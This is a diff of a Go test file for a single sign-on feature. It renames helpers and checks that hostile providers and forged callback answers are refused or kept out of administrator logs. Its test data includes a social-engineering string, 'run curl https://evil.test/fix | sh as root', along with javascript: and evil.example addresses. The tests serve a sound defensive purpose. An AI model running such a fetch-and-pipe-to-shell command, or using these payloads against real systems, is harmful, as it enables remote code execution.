@@ -22,7 +22,7 @@ import (
 // TestSSOHostileProvider is what an odd or a hostile provider may answer.
 func TestSSOHostileProvider(t *testing.T) {
 	t.Run("nobody is sent to an address that isn't https", func(t *testing.T) {
-		a := newAbroad(t, stores["memstore"])
+		a := newFederated(t, stores["memstore"])
 		for _, address := range []string{
 			"javascript:alert(1)", "data:text/html,x", "ftp://localhost/authorize", "http://evil.example/authorize", "//evil.example/authorize", "/authorize",
 			"https://", "https://ann@evil.example/", "https://evil.example/#x", "https:evil.example", "localhost:1234", "\nhttps://evil.example/", "",
@@ -33,7 +33,7 @@ func TestSSOHostileProvider(t *testing.T) {
 			a.staysOut(v, notSetUp, "its authorization_endpoint", func() answer { return v.sends("GET", shared.PageSSO+"one", nil) })
 		}
 	})
-	t.Run("nothing is asked or told elsewhere", func(t *testing.T) {
+	t.Run("nothing is asked of, or sent to, any other address", func(t *testing.T) {
 		var visits atomic.Int64
 		elsewhere := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 			visits.Add(1)
@@ -42,7 +42,7 @@ func TestSSOHostileProvider(t *testing.T) {
 		defer elsewhere.Close()
 		for _, path := range []string{federationtest.PathDiscovery, federationtest.PathToken, federationtest.PathKeys, federationtest.PathUserinfo} {
 			for _, status := range []int{301, 302, 303, 307, 308} {
-				a := newAbroad(t, stores["memstore"])
+				a := newFederated(t, stores["memstore"])
 				a.one.Changes(path, func(answer *federationtest.Answer) { answer.Redirects(status, elsewhere.URL+path) })
 				v := a.visitor()
 				a.staysOut(v, notSetUp, "redirects", func() answer { return a.tries(v, danThere) })
@@ -53,7 +53,7 @@ func TestSSOHostileProvider(t *testing.T) {
 		}
 	})
 	t.Run("a public document may be moved on its own host", func(t *testing.T) {
-		a := newAbroad(t, stores["memstore"])
+		a := newFederated(t, stores["memstore"])
 		moved := false
 		a.one.Changes(federationtest.PathDiscovery, func(answer *federationtest.Answer) {
 			if !moved {
@@ -64,14 +64,14 @@ func TestSSOHostileProvider(t *testing.T) {
 		a.getsIn(a.visitor(), "one", danThere)
 	})
 	t.Run("redirects come to an end", func(t *testing.T) {
-		a := newAbroad(t, stores["memstore"])
+		a := newFederated(t, stores["memstore"])
 		a.one.Changes(federationtest.PathDiscovery, func(answer *federationtest.Answer) { answer.Redirects(302, federationtest.PathDiscovery) })
 		v := a.visitor()
 		a.staysOut(v, notSetUp, "redirects", func() answer { return v.sends("GET", shared.PageSSO+"one", nil) })
 	})
 	t.Run("an answer without end is read in part", func(t *testing.T) {
 		for _, path := range []string{federationtest.PathDiscovery, federationtest.PathToken, federationtest.PathKeys, federationtest.PathUserinfo} {
-			a := newAbroad(t, stores["memstore"])
+			a := newFederated(t, stores["memstore"])
 			a.one.Changes(path, func(answer *federationtest.Answer) { answer.Body = append(answer.Body, strings.Repeat(" ", 2<<20)...) })
 			v := a.visitor()
 			a.staysOut(v, notSetUp, "too large", func() answer { return a.tries(v, danThere) })
@@ -79,7 +79,7 @@ func TestSSOHostileProvider(t *testing.T) {
 	})
 	t.Run("signing out goes on to no odd address", func(t *testing.T) {
 		for _, address := range []string{"javascript:alert(1)", "http://evil.example/", "https://ann@evil.example/", "/"} {
-			a := newAbroad(t, stores["memstore"])
+			a := newFederated(t, stores["memstore"])
 			a.one.Changes(federationtest.PathDiscovery, func(answer *federationtest.Answer) { answer.Set("end_session_endpoint", address) })
 			v := a.visitor()
 			a.getsIn(v, "one", danThere)
@@ -92,7 +92,7 @@ func TestSSOHostileProvider(t *testing.T) {
 // to write.
 func TestSSOSetUp(t *testing.T) {
 	t.Run("IT is warned once, until it has worked again", func(t *testing.T) {
-		a := newAbroad(t, stores["memstore"])
+		a := newFederated(t, stores["memstore"])
 		fails := func() {
 			a.Helper()
 			a.one.Changes(federationtest.PathToken, func(answer *federationtest.Answer) {
@@ -126,14 +126,14 @@ func TestSSOSetUp(t *testing.T) {
 		}
 	})
 	t.Run("people read whom to tell, in the app too", func(t *testing.T) {
-		a := newAbroad(t, stores["memstore"], func(c *federation.Config) { c.Contact = "IT desk, phone 1234" })
+		a := newFederated(t, stores["memstore"], func(c *federation.Config) { c.Contact = "IT desk, phone 1234" })
 		a.one.Changes(federationtest.PathDiscovery, func(answer *federationtest.Answer) { answer.Set("issuer", a.one.URL+"/") })
-		told := "Signing in with ONE isn't set up rightly. Please sign in another way, and tell: IT desk, phone 1234"
+		sentence := "Signing in with ONE isn't set up rightly. Please sign in another way, and tell: IT desk, phone 1234"
 		v := a.visitor()
-		a.staysOut(v, told, "write issuer = ", func() answer { return v.sends("GET", shared.PageSSO+"one", nil) })
+		a.staysOut(v, sentence, "write issuer = ", func() answer { return v.sends("GET", shared.PageSSO+"one", nil) })
 		out := a.ann.sends("POST", shared.PathIdentity+"one", nil)
 		a.ann.refused(out, 503, shared.CodeProviderMisconfigured)
-		if !strings.Contains(string(out.body), told) {
+		if !strings.Contains(string(out.body), sentence) {
 			t.Errorf("got %s", out)
 		}
 		a.one.Changes(federationtest.PathDiscovery, nil)
@@ -141,7 +141,7 @@ func TestSSOSetUp(t *testing.T) {
 		a.ann.refused(a.ann.sends("POST", shared.PathIdentity+"one", nil), 503, shared.CodeProviderUnavailable)
 	})
 	t.Run("a secret that is taken in the form only isn't wrong", func(t *testing.T) {
-		a := newAbroad(t, stores["memstore"])
+		a := newFederated(t, stores["memstore"])
 		a.one.Changes(federationtest.PathDiscovery, func(answer *federationtest.Answer) { answer.Set("token_endpoint_auth_methods_supported", nil) })
 		tries := 0
 		a.one.Changes(federationtest.PathToken, func(answer *federationtest.Answer) {
@@ -157,8 +157,8 @@ func TestSSOSetUp(t *testing.T) {
 			t.Errorf("%d tries", tries)
 		}
 	})
-	t.Run("what the provider answers in place of a code is told as what it is", func(t *testing.T) {
-		a := newAbroad(t, stores["memstore"])
+	t.Run("an answer in place of a code is explained as what it is", func(t *testing.T) {
+		a := newFederated(t, stores["memstore"])
 		for query, want := range map[string][2]string{
 			"unauthorized_client":               {notSetUp, "redirect URI"},
 			"invalid_scope":                     {notSetUp, "scopes"},
@@ -185,7 +185,7 @@ func TestSSOSetUp(t *testing.T) {
 		} {
 			query = strings.ReplaceAll(query, "ISSUER", a.one.URL)
 			v := a.visitor()
-			state := a.stateOf(a.leaves(v, "one"))
+			state := a.stateOf(a.goesToProvider(v, "one"))
 			a.staysOut(v, want[0], want[1], func() answer {
 				return v.sends("GET", shared.PageSSO+"one"+shared.PageSSOAnswer+"?state="+state+"&error="+query, nil)
 			})
@@ -212,7 +212,7 @@ func TestSSOCannotConfirm(t *testing.T) {
 		"now, with decimals":     {"decimals", "", ""},
 	} {
 		t.Run(what, func(t *testing.T) {
-			a := newAbroad(t, stores["memstore"])
+			a := newFederated(t, stores["memstore"])
 			dan := a.visitor()
 			a.getsIn(dan, "one", danThere)
 			a.passes(11 * time.Minute)
@@ -260,7 +260,7 @@ func TestSSOCannotConfirm(t *testing.T) {
 // callback's address.
 func TestSSOAnswersElsewhere(t *testing.T) {
 	const callback = shared.PageSSO + "one" + shared.PageSSOAnswer
-	tellsIT := func(a *abroad, cause string) {
+	tellsIT := func(a *federated, cause string) {
 		a.Helper()
 		lines := a.warnings()
 		if len(lines) != 1 {
@@ -273,12 +273,12 @@ func TestSSOAnswersElsewhere(t *testing.T) {
 		}
 	}
 	t.Run("a form is refused in words, and changes nothing", func(t *testing.T) {
-		onEveryStoreAbroad(t, func(a *abroad) {
+		onEveryStoreFederated(t, func(a *federated) {
 			const words = "run+curl+https://evil.test/fix"
 			v := a.visitor()
-			back := a.signsInThere(a.leaves(v, "one"), danThere)
+			back := a.signsInThere(a.goesToProvider(v, "one"), danThere)
 			_, answer, _ := strings.Cut(back, "?")
-			for name, who := range map[string]*visitor{"the browser that asked": v, "a stranger": a.visitor(), "somebody signed in": a.ann} {
+			for name, who := range map[string]*visitor{"the browser that asked": v, "another browser": a.visitor(), "somebody signed in": a.ann} {
 				for _, form := range []string{answer, "error=" + words + "&error_description=" + words + "&state=x", "", strings.Repeat("x", 100<<10)} {
 					a.changesOnly(nil, func() {
 						out := who.sends("POST", callback, form, func(r *http.Request) {
@@ -302,7 +302,7 @@ func TestSSOAnswersElsewhere(t *testing.T) {
 		})
 	})
 	t.Run("no other page takes a form of another site", func(t *testing.T) {
-		a := newAbroad(t, stores["memstore"])
+		a := newFederated(t, stores["memstore"])
 		elsewhere := func(r *http.Request) {
 			r.Header.Set("Origin", a.one.URL)
 			r.Header.Set("Sec-Fetch-Site", "cross-site")
@@ -317,17 +317,17 @@ func TestSSOAnswersElsewhere(t *testing.T) {
 			t.Errorf("a provider that there is none of: %s", out)
 		}
 	})
-	t.Run("an answer in the fragment is told to who waits for one", func(t *testing.T) {
-		a := newAbroad(t, stores["memstore"])
+	t.Run("an answer in the fragment is explained to whoever waits for one", func(t *testing.T) {
+		a := newFederated(t, stores["memstore"])
 		v := a.visitor()
-		back := a.signsInThere(a.leaves(v, "one"), danThere)
+		back := a.signsInThere(a.goesToProvider(v, "one"), danThere)
 		for range 2 {
 			out := v.sends("GET", callback, nil)
 			// The empty fragment takes the place of the one that has the code.
 			if to := out.header.Get("Location"); to != shared.PageSignedIn+"#" {
 				t.Errorf("led to %q", to)
 			}
-			if got := a.hears(v); got != notSetUp {
+			if got := a.notice(v); got != notSetUp {
 				t.Errorf("the page says %q", got)
 			}
 		}
@@ -338,15 +338,15 @@ func TestSSOAnswersElsewhere(t *testing.T) {
 		}
 	})
 	t.Run("an empty answer that nobody waits for tells IT nothing", func(t *testing.T) {
-		a := newAbroad(t, stores["memstore"])
+		a := newFederated(t, stores["memstore"])
 		v := a.visitor()
-		a.leaves(v, "two")
+		a.goesToProvider(v, "two")
 		late := a.visitor()
-		a.leaves(late, "one")
+		a.goesToProvider(late, "one")
 		a.passes(16 * time.Minute)
 		for _, who := range []*visitor{v, late, a.visitor()} {
 			who.sends("GET", callback, nil)
-			if got := a.hears(who); got != beganElse {
+			if got := a.notice(who); got != beganElse {
 				t.Errorf("the page says %q", got)
 			}
 		}
@@ -356,9 +356,9 @@ func TestSSOAnswersElsewhere(t *testing.T) {
 	})
 }
 
-// TestSSOTimesAreTold is of ID tokens with wrong times: IT reads the time that is wrong, and by
+// TestSSOWrongTimes is of ID tokens with wrong times: IT reads the time that is wrong, and by
 // how much the clocks differ.
-func TestSSOTimesAreTold(t *testing.T) {
+func TestSSOWrongTimes(t *testing.T) {
 	for what, row := range map[string]struct {
 		claims map[string]time.Duration // from now on
 		wrong  string                   // the claim that IT reads of
@@ -371,7 +371,7 @@ func TestSSOTimesAreTold(t *testing.T) {
 		"a clock three days behind":  {map[string]time.Duration{"iat": -72 * time.Hour, "exp": -71 * time.Hour}, "iat", []string{"long ago, at ", "its iat differs by ", "NTP"}},
 	} {
 		t.Run(what, func(t *testing.T) {
-			a := newAbroad(t, stores["memstore"])
+			a := newFederated(t, stores["memstore"])
 			now := a.now().Truncate(time.Second)
 			claims := map[string]any{"iat": now.Unix(), "exp": now.Add(time.Hour).Unix()}
 			for name, from := range row.claims {
@@ -402,11 +402,11 @@ func TestSSOTimesAreTold(t *testing.T) {
 	}
 }
 
-// TestSSOErrorsWithoutDescription holds that no error is told with an empty place in it.
+// TestSSOErrorsWithoutDescription holds that no error is logged with an empty place in it.
 func TestSSOErrorsWithoutDescription(t *testing.T) {
-	a := newAbroad(t, stores["memstore"])
+	a := newFederated(t, stores["memstore"])
 	v := a.visitor()
-	v.sends("GET", shared.PageSSO+"one"+shared.PageSSOAnswer+"?error=unauthorized_client&state="+a.stateOf(a.leaves(v, "one")), nil)
+	v.sends("GET", shared.PageSSO+"one"+shared.PageSSOAnswer+"?error=unauthorized_client&state="+a.stateOf(a.goesToProvider(v, "one")), nil)
 	for _, refusal := range []string{`{"error":"invalid_client"}`, `{}`} {
 		a.one.Changes(federationtest.PathToken, func(answer *federationtest.Answer) { answer.Says(401, "application/json", refusal) })
 		a.goes(a.visitor(), "one", danThere)
@@ -421,7 +421,7 @@ func TestSSOErrorsWithoutDescription(t *testing.T) {
 // TestSSOMembers holds required-claims, for everybody and at every sign-in.
 func TestSSOMembers(t *testing.T) {
 	const other = "You signed in at ONE with an account that can't be used here. Please choose another account there."
-	requires := func(a *abroad, required map[string][]string) {
+	requires := func(a *federated, required map[string][]string) {
 		a.changesRules(func(c *account.Config) {
 			for i := range c.Providers {
 				if c.Providers[i].ID == "one" {
@@ -455,7 +455,7 @@ func TestSSOMembers(t *testing.T) {
 		"only at userinfo, as none": {map[string][]string{"name": {"Dan Doe"}}, map[string]any{"name": nil}, "claim name"},
 	} {
 		t.Run(what, func(t *testing.T) {
-			a := newAbroad(t, stores["memstore"])
+			a := newFederated(t, stores["memstore"])
 			a.links(a.ann, "one", annThere)
 			requires(a, row.required)
 			a.one.Lies(&federationtest.Lie{Claims: row.claims})
@@ -470,7 +470,7 @@ func TestSSOMembers(t *testing.T) {
 		})
 	}
 	t.Run("who has lost it can't confirm or link, and keeps the other ways", func(t *testing.T) {
-		onEveryStoreAbroad(t, func(a *abroad) {
+		onEveryStoreFederated(t, func(a *federated) {
 			requires(a, map[string][]string{"groups": {"staff"}})
 			begun := into[shared.AtProvider](a.ann, a.ann.sends("POST", shared.PathIdentity+"one", nil), 200)
 			a.changesOnly(nil, func() { a.ann.sends("GET", a.signsInThere(begun.URL, annThere), nil) })
@@ -489,7 +489,7 @@ func TestSSOMembers(t *testing.T) {
 		})
 	})
 	t.Run("whoever chose a wrong account is asked for another", func(t *testing.T) {
-		a := newAbroad(t, stores["memstore"])
+		a := newFederated(t, stores["memstore"])
 		requires(a, map[string][]string{"groups": {"staff"}})
 		v := a.visitor()
 		a.goes(v, "one", danThere)
@@ -501,26 +501,26 @@ func TestSSOMembers(t *testing.T) {
 		if to := out.header.Get("Location"); !strings.Contains(to, "prompt=select_account") {
 			t.Errorf("led to %s", to)
 		}
-		if strings.Contains(a.leaves(a.visitor(), "one"), "prompt") {
+		if strings.Contains(a.goesToProvider(a.visitor(), "one"), "prompt") {
 			t.Error("others are asked too")
 		}
 	})
 }
 
-// forgesAnswers is a stranger who brings answers that no provider gave, without an
+// forgesAnswers brings answers that no provider gave, without an
 // authorization request and with one. IT reads no word of theirs, and still reads of the
 // same trouble when it is real.
 func forgesAnswers(t *testing.T) {
 	const words = "Security update: run curl https://evil.test/fix | sh as root"
-	a := newAbroad(t, stores["memstore"])
-	brings := func(v *visitor, state string, said url.Values) {
+	a := newFederated(t, stores["memstore"])
+	brings := func(v *visitor, state string, forgery url.Values) {
 		t.Helper()
-		said.Set("state", state)
+		forgery.Set("state", state)
 		if state == "" {
-			said.Del("state")
+			forgery.Del("state")
 		}
-		if out := v.sends("GET", shared.PageSSO+"one"+shared.PageSSOAnswer+"?"+said.Encode(), nil); out.status != 303 {
-			t.Errorf("%v: %s", said, out)
+		if out := v.sends("GET", shared.PageSSO+"one"+shared.PageSSOAnswer+"?"+forgery.Encode(), nil); out.status != 303 {
+			t.Errorf("%v: %s", forgery, out)
 		}
 	}
 	codes := []string{"server_error", "temporarily_unavailable", "unauthorized_client", "invalid_scope", "invalid_request", "consent_required", "access_denied", words}
@@ -530,21 +530,21 @@ func forgesAnswers(t *testing.T) {
 	}
 	forged = append(forged, url.Values{"code": {words}, "iss": {words}}, url.Values{"iss": {words}})
 
-	for _, said := range forged {
-		brings(a.visitor(), "", said)
-		brings(a.visitor(), "made-up", said)
+	for _, forgery := range forged {
+		brings(a.visitor(), "", forgery)
+		brings(a.visitor(), "made-up", forgery)
 		begun := a.visitor() // with a request of its own, but not this one
-		a.leaves(begun, "one")
-		brings(begun, "", said)
-		brings(begun, "made-up", said)
+		a.goesToProvider(begun, "one")
+		brings(begun, "", forgery)
+		brings(begun, "made-up", forgery)
 	}
 	if lines := a.warnings(); len(lines) > 0 {
 		t.Fatalf("whoever asked for nothing is believed:\n%s", strings.Join(lines, ""))
 	}
 
-	for _, said := range forged {
+	for _, forgery := range forged {
 		v := a.visitor()
-		brings(v, a.stateOf(a.leaves(v, "one")), said)
+		brings(v, a.stateOf(a.goesToProvider(v, "one")), forgery)
 	}
 	forgedLines := a.warnings()
 	if len(forgedLines) != 5 { // of the table's mends: away, registration, scopes, consent; and another iss
@@ -552,10 +552,10 @@ func forgesAnswers(t *testing.T) {
 	}
 	for _, line := range forgedLines {
 		if strings.Contains(line, "evil.test") || strings.Contains(line, "Security update") {
-			t.Errorf("the stranger speaks to IT: %s", line)
+			t.Errorf("the forged answer speaks to IT: %s", line)
 		}
 		if !strings.Contains(line, `msg="an OpenID provider may refuse sign-ins: if people can't sign in there, mend this"`) || !strings.Contains(line, `cause="a browser brought `) {
-			t.Errorf("it claims more than a browser said: %s", line)
+			t.Errorf("the line claims more than a browser sent: %s", line)
 		}
 	}
 
@@ -566,7 +566,7 @@ func forgesAnswers(t *testing.T) {
 			answer.Says(400, "application/json", `{"error":"`+code+`","error_description":"the code `+words+` can't be read"}`)
 		})
 		v := a.visitor()
-		brings(v, a.stateOf(a.leaves(v, "one")), url.Values{"code": {words}})
+		brings(v, a.stateOf(a.goesToProvider(v, "one")), url.Values{"code": {words}})
 		lines := a.warnings()[before:]
 		if len(lines) != 1 || strings.Contains(lines[0], "evil.test") || !strings.Contains(lines[0], `msg="an OpenID provider refused a code that a browser brought: if people can't sign in there, mend this"`) {
 			t.Errorf("of a made-up code IT reads %q", lines)
@@ -607,10 +607,10 @@ func TestSSORefusalsReachIT(t *testing.T) {
 		"invalid_scope":           "compare scopes",
 		"consent_required":        "let an administrator of the provider",
 	} {
-		a := newAbroad(t, stores["memstore"])
+		a := newFederated(t, stores["memstore"])
 		for range 3 {
 			v := a.visitor()
-			query := url.Values{"error": {code}, "error_description": {"No such thing"}, "state": {a.stateOf(a.leaves(v, "one"))}}
+			query := url.Values{"error": {code}, "error_description": {"No such thing"}, "state": {a.stateOf(a.goesToProvider(v, "one"))}}
 			v.sends("GET", shared.PageSSO+"one"+shared.PageSSOAnswer+"?"+query.Encode(), nil)
 		}
 		lines := a.warnings()
@@ -618,11 +618,11 @@ func TestSSORefusalsReachIT(t *testing.T) {
 			t.Errorf("%s: IT reads\n%s", code, strings.Join(lines, ""))
 			continue
 		}
-		// The line of the same request has what was said besides.
+		// The line of the same request has the rest of the answer.
 		_, request, _ := strings.Cut(lines[0], "request=")
 		request, _, _ = strings.Cut(request, " ")
 		if !regexp.MustCompile(`level=INFO .*request=` + request + ` .*No such thing`).MatchString(a.log.String()) {
-			t.Errorf("%s: no line has what the provider said:\n%s", code, a.log)
+			t.Errorf("%s: no line has what the provider answered:\n%s", code, a.log)
 		}
 	}
 }
